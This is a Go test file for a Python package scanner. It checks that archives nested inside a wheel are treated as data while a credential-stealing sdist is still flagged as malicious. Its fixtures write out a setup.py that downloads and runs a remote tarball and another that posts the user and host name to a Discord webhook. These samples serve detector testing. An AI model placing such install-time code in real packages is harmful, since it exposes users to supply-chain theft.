package analyze

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"testing"

	"github.com/safeguard-dev/safeguard/internal/artifact"
)

// tarGz packs files under root/.
func tarGz(files map[string]string, root string) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for n, body := range files {
		tw.WriteHeader(&tar.Header{Name: root + "/" + n, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

// wheelWith is a wheel of package p holding files (name → bytes).
func wheelWith(t *testing.T, files map[string][]byte) *Result {
	t.Helper()
	return wheelNamed(t, "p", files)
}

// wheelNamed packs files into a wheel of project name, version 1.
func wheelNamed(t *testing.T, name string, files map[string][]byte) *Result {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	files[name+"-1.dist-info/METADATA"] = []byte("Metadata-Version: 2.1\nName: " + name + "\nVersion: 1\n")
	files[name+"-1.dist-info/WHEEL"] = []byte("Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
	for n, body := range files {
		w, _ := zw.Create(n)
		w.Write(body)
	}
	zw.Close()
	a, err := artifact.Read(t.Context(), name+"-1-py3-none-any.whl", buf.Bytes(), artifact.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return Analyze(t.Context(), a)
}

// An sdist kept as test data inside a distribution is data: installing
// the distribution never runs its setup.py, so an old installer's
// download-and-run there is not install-time code. What holds in any
// context still does: a credential thief in it is malicious wherever it
// sits.
func TestNestedArchivesAreData(t *testing.T) {
	installer := tarGz(map[string]string{
		"PKG-INFO": "Metadata-Version: 1.0\nName: old\nVersion: 0.6\n",
		"setup.py": "import os, urllib2\nsrc = urllib2.urlopen('https://example.invalid/ez.tgz').read()\nopen('ez.tgz', 'wb').write(src)\nos.system('tar xzf ez.tgz && python ez/setup.py install')\n",
	}, "old-0.6")
	r := wheelWith(t, map[string][]byte{"p/__init__.py": []byte("VALUE = 1\n"), "p/testdata/old-0.6.tar.gz": installer})
	if r.Verdict == Malicious {
		t.Errorf("an old installer kept as test data: %s, want not malicious; findings %+v", r.Verdict, r.Findings)
	}
	for _, f := range r.Findings {
		if f.Context.Executes() {
			t.Errorf("a nested archive's finding in context %s: %+v", f.Context, f)
		}
	}

	thief := tarGz(map[string]string{
		"PKG-INFO": "Metadata-Version: 1.0\nName: t\nVersion: 1\n",
		"setup.py": "import requests, socket, getpass\nHOOK = 'https://discord.com/api/webhooks/1/abc'\nrequests.post(HOOK, json={'content': getpass.getuser() + '@' + socket.gethostname()})\n",
	}, "t-1")
	r = wheelWith(t, map[string][]byte{"p/__init__.py": []byte("VALUE = 1\n"), "p/vendor/t-1.tar.gz": thief})
	if r.Verdict != Malicious {
		t.Errorf("a stealer inside a distribution: %s, want malicious; findings %+v", r.Verdict, r.Findings)
	}
}
